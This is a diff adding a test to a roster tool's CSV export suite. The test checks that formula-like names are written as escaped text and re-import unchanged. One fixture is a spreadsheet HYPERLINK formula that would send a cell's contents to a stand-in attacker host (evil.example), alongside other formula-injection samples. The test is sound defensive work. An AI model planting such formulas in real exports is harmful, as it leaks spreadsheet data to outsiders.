@@ -148,6 +148,26 @@ describe('roster import / export CSV [sqlite]', () => {
     assert.equal((await roster(['export', '--db', db2])).stdout, await readFile(company, 'utf8'));
   });
 
+  it('writes names that look like formulas as text and imports them back unchanged', async () => {
+    const doc = JSON.parse(await readFile(company, 'utf8'));
+    doc.groups[0].name = '=HYPERLINK("http://evil.example/?leak="&A1,"open")';
+    Object.assign(doc.users[4], { name: '@SUM(A1)', last_name: "'=already", work_position: '-2+3' });
+    doc.departments[3].name = '+Sales';
+    const source = join(dir, 'formulas.json');
+    await writeFile(source, JSON.stringify(doc));
+    const db = join(dir, 'formulas-a.db');
+    assert.equal((await roster(['import', source, '--db', db])).code, 0);
+    const csv = join(dir, 'formulas');
+    assert.equal((await roster(['export', '--format', 'csv', '--out', csv, '--db', db])).code, 0);
+    const text = (await Promise.all(['users', 'departments', 'groups'].map((k) => readFile(join(csv, `${k}.csv`), 'utf8')))).join('');
+    for (const raw of ['"\'=HYPERLINK(""http', "'@SUM(A1)", "''=already", "'-2+3", "'+Sales"]) assert.ok(text.includes(`,${raw}`), raw);
+    assert.doesNotMatch(text, /(^|,)"?[=+\-@]/m, 'no cell starts a formula');
+    const db2 = join(dir, 'formulas-b.db');
+    const back = await roster(['import', join(csv, 'users.csv'), '--departments', join(csv, 'departments.csv'), '--groups', join(csv, 'groups.csv'), '--db', db2]);
+    assert.equal(back.code, 0, back.stderr);
+    assert.equal((await roster(['export', '--db', db2])).stdout, (await roster(['export', '--db', db])).stdout);
+  });
+
   it('merges a spreadsheet of a few columns by ID, and names line and column of problems', async () => {
     const db = join(dir, 'csv-merge.db');
     assert.equal((await roster(['import', company, '--db', db])).code, 0);
